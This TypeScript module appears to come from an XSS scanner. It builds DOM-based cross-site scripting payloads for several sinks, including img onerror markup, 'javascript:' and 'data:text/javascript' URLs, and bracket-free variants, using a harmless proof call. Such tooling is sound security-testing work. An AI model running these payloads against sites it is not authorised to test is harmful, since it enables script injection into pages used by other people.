/** Payloads for a string that a page's own script made: what stood around our word says how to leave it. */
import { contextsOf, quoteAt } from '../contexts.ts'
import { MATRIX, payloadsFor } from '../payloads.ts'

export type Sink = 'html' | 'code' | 'script' | 'address' | 'location' | 'window'

const ALL: ReadonlySet<string> = new Set([...MATRIX, '}'])
const MOST = 4

/** The most telling first. `value` is what the sink was given, `word` stands in it; `call` is `qxproof(123)`. */
export const domPayloads = (sink: Sink, value: string, word: string, call: string): readonly string[] => {
  switch (sink) {
    case 'html':
      return contextsOf(value, word)
        .flatMap((context) => leavings(payloadsFor(context, '', call, ALL).map(drawn)))
        .slice(0, MOST)
    case 'code': {
      const context = {
        kind: 'script',
        tag: 'script',
        attribute: null,
        quote: quoteAt(value, value.indexOf(word)),
      } as const
      const ways = payloadsFor(context, '', call, ALL).filter((one) => !one.includes('<'))
      // Within an object or a call, only an expression goes on.
      return ways.toSorted((a, b) => Number(b.includes('-')) - Number(a.includes('-'))).slice(0, MOST)
    }
    case 'script':
      return value.trim().startsWith(word) ? [`data:text/javascript,${call}`] : []
    case 'address':
    case 'location':
      return value.trim().startsWith(word) ? [`javascript:${call}`] : []
    case 'window':
      return []
  }
}

/** Markup that a script puts in: onload of svg does not fire there, onerror of an image does. */
const drawn = (payload: string): string =>
  payload.replace('<svg onload=', '<img src=x onerror=').replace('<svg/onload=', '<img/src=x/onerror=')

/** One that needs a bracket is enough of its kind; those without go on where brackets are taken out. */
const leavings = (payloads: readonly string[]): readonly string[] => {
  const [first] = payloads.filter((one) => one.includes('<'))
  return [...(first === undefined ? [] : [first]), ...payloads.filter((one) => !one.includes('<'))]
}
